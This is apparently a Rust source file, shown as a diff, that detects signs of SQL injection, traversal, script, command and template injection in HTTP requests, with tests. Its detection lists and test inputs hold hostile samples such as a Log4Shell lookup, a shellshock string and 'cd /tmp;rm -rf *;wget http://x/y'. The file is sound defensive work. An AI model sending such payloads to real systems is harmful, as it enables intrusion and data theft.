@@ -1,0 +1,364 @@
+//! Signs of an attack in what a client asks for: syntax that no ordinary address or search has.
+
+use super::plain::plain;
+
+/// Bytes of a target or field that are read for signs.
+pub(super) const MOST_SIGNS: usize = 2_048;
+
+/// Kinds of attacks.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Sql,
+    Traversal,
+    Script,
+    Command,
+    Template,
+}
+
+/// The kinds of attacks that signs were found of.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub(super) struct Signs(u8);
+
+const KINDS: [(Kind, &str); 5] = [
+    (Kind::Sql, "sql"),
+    (Kind::Traversal, "traversal"),
+    (Kind::Script, "script"),
+    (Kind::Command, "command"),
+    (Kind::Template, "template"),
+];
+
+/// Signs wherever they stand.
+const ANYWHERE: &[(Kind, &[&str])] = &[
+    (
+        Kind::Sql,
+        &[
+            "' or 1=1", " or 1=1",
+            "'or 1=1", " and 1=1", " and 1=2", "'='", "'--", "information_schema", "xp_cmdshell", "waitfor delay",
+            "pg_sleep(", "load_file(", "into outfile", "into dumpfile", "group_concat(", "extractvalue(",
+            "updatexml(", "; drop table", ";drop table", "@@version", "' order by ", "concat(0x", "(select ",
+            "(select(", "having 1=1", "convert(int,", "utl_inaddr", "utl_http", "dbms_pipe",
+        ],
+    ),
+    (
+        Kind::Traversal,
+        &[
+            "../../", "..\\..\\", "/../..", "\\..\\..", "=../..", "....//", "..;/", "/etc/passwd", "/etc/shadow",
+            "/proc/self/", "windows/system32", "windows\\system32", "\\win.ini", "/win.ini", "boot.ini",
+            "web-inf/web.xml", ".ssh/id_rsa", "php://filter", "php://input",
+        ],
+    ),
+    (
+        Kind::Script,
+        &[
+            "<script", "</script", "<iframe", "<svg", "<img ", "<img/", "javascript:alert(", "javascript:prompt(",
+            "javascript:confirm(", "javascript:eval(", "javascript:document.", "document.cookie",
+            "alert(document", "alert(1)", "string.fromcharcode(",
+        ],
+    ),
+    (
+        Kind::Command,
+        &[
+            "$(", "${ifs}", "$ifs", "cmd.exe", "/bin/sh", "/bin/bash", "powershell.exe", "powershell -",
+            "shell_exec(", "passthru(", "base64_decode(", "phpinfo(", "allow_url_include", "() {",
+            "getruntime", "processbuilder", "@java.lang.", "call_user_func", "cd /tmp", "chmod 777", "rm -rf",
+        ],
+    ),
+    (
+        Kind::Template,
+        &[
+            "${jndi:", "${${", "${lower:", "${upper:", "${env:", "${sys:", "${::-", "{{config", "{{self",
+            "{{request", "{{''", "{{ ''", "__class__", "__globals__", "__import__", "class.module.classloader",
+            "t(java.lang", "freemarker.template",
+        ],
+    ),
+];
+
+/// Calls: no letter stands before them.
+const CALLS: &[(Kind, &str)] = &[
+    (Kind::Sql, "sleep("),
+    (Kind::Sql, "benchmark("),
+    (Kind::Command, "system("),
+    (Kind::Command, "exec("),
+    (Kind::Command, "popen("),
+    (Kind::Command, "eval("),
+];
+/// Attributes that run scripts: a blank, a slash or a quotation mark stands before them.
+const ATTRIBUTES: [&str; 7] =
+    ["onerror=", "onload=", "onmouseover=", "onfocus=", "onclick=", "ontoggle=", "onbegin="];
+/// Commands behind a sign that ends another.
+const COMMANDS: [&str; 21] = [
+    "cat /", "cat ../", "ls -", "ls /", "uname -", "wget http", "curl http", "ping -c", "ping -n", "nc -", "bash -",
+    "sh -", "nslookup ", "busybox ", "tftp ", "net user", "dir c:", "type c:", "powershell", "cat ", "sleep ",
+];
+/// Short commands behind such a sign, of which nothing follows.
+const SHORT: [&str; 4] = ["id", "whoami", "ls", "uname"];
+/// What encodes a step up, and is encoded by no honest program.
+const ENCODED: [&str; 7] = ["..%2f", "..%5c", "%2e%2e", "..%252f", "..%255c", "%252e%252e", "%c0%ae"];
+
+/// First letters of what is looked for.
+const FIRST: [bool; 256] = first_letters();
+
+const fn first_letters() -> [bool; 256] {
+    let mut first = [false; 256];
+    let mut kind = 0;
+    while kind < ANYWHERE.len() {
+        let mut sign = 0;
+        while sign < ANYWHERE[kind].1.len() {
+            first[ANYWHERE[kind].1[sign].as_bytes()[0] as usize] = true;
+            sign += 1;
+        }
+        kind += 1;
+    }
+    first
+}
+
+impl Signs {
+    /// The signs in the target of a request.
+    pub(super) fn of_target(target: &[u8]) -> Self {
+        let mut signs = Self::default();
+        let target = target.get(..MOST_SIGNS).unwrap_or(target);
+        if has_encoded_step(target) {
+            signs.add(Kind::Traversal);
+        }
+        signs.look(&plain(target, MOST_SIGNS));
+        signs
+    }
+
+    /// Adds those of a field of the head, in which only what is expanded there is looked for.
+    pub(super) fn add_field(&mut self, value: &[u8]) {
+        let value = value.get(..MOST_SIGNS).unwrap_or(value);
+        if value.windows(2).any(|two| two == b"${") || value.starts_with(b"() {") {
+            let mut signs = Self::default();
+            signs.look(&plain(value, MOST_SIGNS));
+            self.0 |= signs.0 & (1 << Kind::Template as u8 | 1 << Kind::Command as u8);
+        }
+    }
+
+    /// Writes their words; `false` where there is none.
+    pub(super) fn put(self, text: &mut String) -> bool {
+        let found = KINDS.into_iter().filter(|&(kind, _)| self.has(kind));
+        for (index, (_, word)) in found.enumerate() {
+            if index > 0 {
+                text.push(',');
+            }
+            text.push_str(word);
+        }
+        self.0 != 0
+    }
+
+    const fn has(self, kind: Kind) -> bool {
+        self.0 & 1 << kind as u8 != 0
+    }
+
+    const fn add(&mut self, kind: Kind) {
+        self.0 |= 1 << kind as u8;
+    }
+
+    fn look(&mut self, text: &[u8]) {
+        let mut before = [b' '; 2];
+        let mut rest = text;
+        while let Some((&byte, behind)) = rest.split_first() {
+            if FIRST.get(usize::from(byte)) == Some(&true) {
+                self.look_anywhere(rest);
+            }
+            let last = before[1];
+            match byte {
+                b'u' if is_union(rest) => self.add(Kind::Sql),
+                b's' | b'b' | b'e' | b'p' if !last.is_ascii_alphanumeric() => self.look_calls(rest),
+                b'o' if matches!(last, b' ' | b'/' | b'"' | b'\'') && before != *b"  " => {
+                    self.look_attributes(rest);
+                }
+                b';' | b'|' | b'`' => self.look_commands(behind, before),
+                b'&' if last == b'&' => self.look_commands(behind, [b'=', b'=']),
+                b'{' if matches!(last, b'{' | b'$' | b'#' | b'%' | b'*') => self.look_product(behind),
+                _ => {}
+            }
+            before = [last, byte];
+            rest = behind;
+        }
+    }
+
+    fn look_anywhere(&mut self, rest: &[u8]) {
+        for (kind, signs) in ANYWHERE {
+            if !self.has(*kind) && signs.iter().any(|sign| rest.starts_with(sign.as_bytes())) {
+                self.add(*kind);
+            }
+        }
+    }
+
+    fn look_calls(&mut self, rest: &[u8]) {
+        for (kind, call) in CALLS {
+            if rest.starts_with(call.as_bytes()) {
+                self.add(*kind);
+            }
+        }
+    }
+
+    fn look_attributes(&mut self, rest: &[u8]) {
+        if ATTRIBUTES.iter().any(|name| rest.starts_with(name.as_bytes())) {
+            self.add(Kind::Script);
+        }
+    }
+
+    /// Looks for a command behind `;`, `|`, `&&` or a backtick. A list such as `name|id` is none.
+    fn look_commands(&mut self, behind: &[u8], before: [u8; 2]) {
+        let behind = behind.strip_prefix(b"|").unwrap_or(behind);
+        let behind = behind.strip_prefix(b" ").unwrap_or(behind);
+        let in_list = before[1].is_ascii_alphabetic() || matches!(before[1], b'_' | b'|');
+        let ends = |rest: &[u8]| matches!(rest, [] | [b'&' | b';' | b'|' | b'`' | b'#' | b' ', ..]);
+        let short = SHORT.iter().any(|name| behind.strip_prefix(name.as_bytes()).is_some_and(ends));
+        let long = COMMANDS.iter().any(|name| behind.starts_with(name.as_bytes()));
+        if long || short && !in_list {
+            self.add(Kind::Command);
+        }
+    }
+
+    /// Looks for `{{7*7}}` and its kin.
+    fn look_product(&mut self, behind: &[u8]) {
+        let behind = behind.trim_ascii_start();
+        let digits = behind.iter().take(8).take_while(|byte| byte.is_ascii_digit()).count();
+        if let Some([b'*', next, ..]) = behind.get(digits..)
+            && digits > 0
+            && (next.is_ascii_digit() || *next == b'\'')
+        {
+            self.add(Kind::Template);
+        }
+    }
+}
+
+/// Whether a `union select` begins here, with what a query selects: a credit union may select as well.
+fn is_union(text: &[u8]) -> bool {
+    let Some(behind) = text.strip_prefix(b"union").map(without_opening) else { return false };
+    let behind = [&b"all "[..], b"distinct "].iter().find_map(|word| behind.strip_prefix(*word)).unwrap_or(behind);
+    let Some(selected) = without_opening(behind).strip_prefix(b"select") else { return false };
+    let value = matches!(without_opening(selected), [b'0'..=b'9' | b'\'' | b'"' | b'@' | b'*' | b'-', ..]);
+    let word = [&b"null"[..], b"char(", b"concat", b"version(", b"user(", b"load_file"];
+    let named = word.iter().any(|word| without_opening(selected).starts_with(word));
+    let listed = selected.iter().take(48).any(|&byte| byte == b',');
+    matches!(selected.first(), Some(b' ' | b'(')) && (value || named || listed)
+}
+
+fn without_opening(text: &[u8]) -> &[u8] {
+    let start = text.iter().take(8).take_while(|byte| matches!(byte, b' ' | b'(')).count();
+    text.get(start..).unwrap_or(&[])
+}
+
+/// Whether a step up is encoded.
+fn has_encoded_step(target: &[u8]) -> bool {
+    let steps = |part: &[u8]| {
+        ENCODED.iter().any(|sign| {
+            part.get(..sign.len()).is_some_and(|start| start.eq_ignore_ascii_case(sign.as_bytes()))
+        })
+    };
+    target.contains(&b'%')
+        && (0..target.len())
+            .filter_map(|start| target.get(start..))
+            .any(|part| matches!(part.first(), Some(b'.' | b'%')) && steps(part))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(target: &str) -> String {
+        let mut text = String::new();
+        Signs::of_target(target.as_bytes()).put(&mut text);
+        text
+    }
+
+    #[test]
+    fn attacks_are_named() {
+        for (target, kinds) in [
+            ("/p?id=1%20UNION%20ALL%20SELECT%201,2--", "sql"),
+            ("/p?id=1'/**/union/**/select/**/1", "sql"),
+            ("/p?id=-1+union+select+user,password+from+users", "sql"),
+            ("/p?id=1)union(select(null))", "sql"),
+            ("/p?user=admin'--&x=1", "sql"),
+            ("/p?id=1+or+1=1", "sql"),
+            ("/p?id=%27%20or%20%271%27=%271", "sql"),
+            ("/p?id=1-sleep(5)", "sql"),
+            ("/p?id=1;select%20pg_sleep(5)", "sql"),
+            ("/p?t=information_schema.tables", "sql"),
+            ("/../../../../etc/passwd", "traversal"),
+            ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal,command"),
+            ("/x?f=..%2fconfig.php", "traversal"),
+            ("/x?f=..%252f..%252fx", "traversal"),
+            ("/x?f=..\\..\\windows\\win.ini", "traversal"),
+            ("/x?f=/etc/passwd", "traversal"),
+            ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script"),
+            ("/s?q=%22%20onerror=alert(2)", "script"),
+            ("/s?q=<svg/onload=alert(3)>", "script"),
+            ("/ping?host=1.1.1.1;cat%20/x", "command"),
+            ("/ping?host=1.1.1.1|id", "command"),
+            ("/ping?host=1.1.1.1%0aid", "command"),
+            ("/ping?host=`whoami`", "command"),
+            ("/ping?host=a&&cat /x", "command"),
+            ("/ping?host=$(curl+x)", "command"),
+            ("/scripts/..%5c../winnt/system32/cmd.exe?/c+dir", "traversal,command"),
+            ("/shell?cd+/tmp;rm+-rf+*;wget+http://x/y", "command"),
+            ("/?x=${jndi:ldap://x/a}", "template"),
+            ("/?x=%24%7B%24%7Blower:j%7Dndi", "template"),
+            ("/?x={{7*7}}", "template"),
+            ("/?x={{''.__class__}}", "template"),
+            ("/?class.module.classLoader.resources=1", "template"),
+        ] {
+            assert_eq!(words(target), kinds, "{target}");
+        }
+    }
+
+    #[test]
+    fn ordinary_addresses_and_searches_are_none() {
+        for target in [
+            "/",
+            "/search?q=credit+union+selection",
+            "/search?q=credit+union+select+account",
+            "/search?q=select+a+union+hotel",
+            "/search?q='cats'+or+'dogs'",
+            "/search?q=how+to+sleep+(better)",
+            "/search?q=rock+'n'+roll",
+            "/recaptcha/api.js?onload=ready&render=explicit",
+            "/api?fields=name|id",
+            "/api?fields=name|id|date&sort=id",
+            "/api?a=1;id=5;cat=7",
+            "/a/../b/style.css",
+            "/shop?cat=5&id=3&ls=2",
+            "/js/jquery.min.js?v=$1",
+            "/search?q=wait...what",
+            "/d?filter=%7B%22a%22:%5B1,2%5D%7D",
+            "/price?p=$(1)".trim_end_matches("$(1)"),
+            "/calendar?from=2024-01-01&to=2024-02-01--x",
+            "/file%20name%20(1).pdf",
+            "/search?q=operating+system+(basics)",
+            "/search?q=medieval(history)",
+            "/wiki/Union_Select_Committee",
+            "/q?x=1&and=1&or=1",
+            "/img?src=a.png&onclick=track",
+            "/a;jsessionid=5?x=1",
+        ] {
+            assert_eq!(words(target), "", "{target}");
+        }
+    }
+
+    #[test]
+    fn of_fields_only_what_is_expanded_counts() {
+        let of = |value: &[u8]| {
+            let mut signs = Signs::default();
+            signs.add_field(value);
+            let mut text = String::new();
+            signs.put(&mut text);
+            text
+        };
+        assert_eq!(of(b"${jndi:ldap://x/a}"), "template");
+        assert_eq!(of(b"() { :;}; /bin/bash -c id"), "command");
+        assert_eq!(of(b"Mozilla/5.0 (X11; Linux x86_64) <script"), "");
+        assert_eq!(of(b"price=${5}"), "");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn any_bytes_are_looked_at(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300)) {
+            let mut signs = Signs::of_target(&bytes);
+            signs.add_field(&bytes);
+        }
+    }
+}
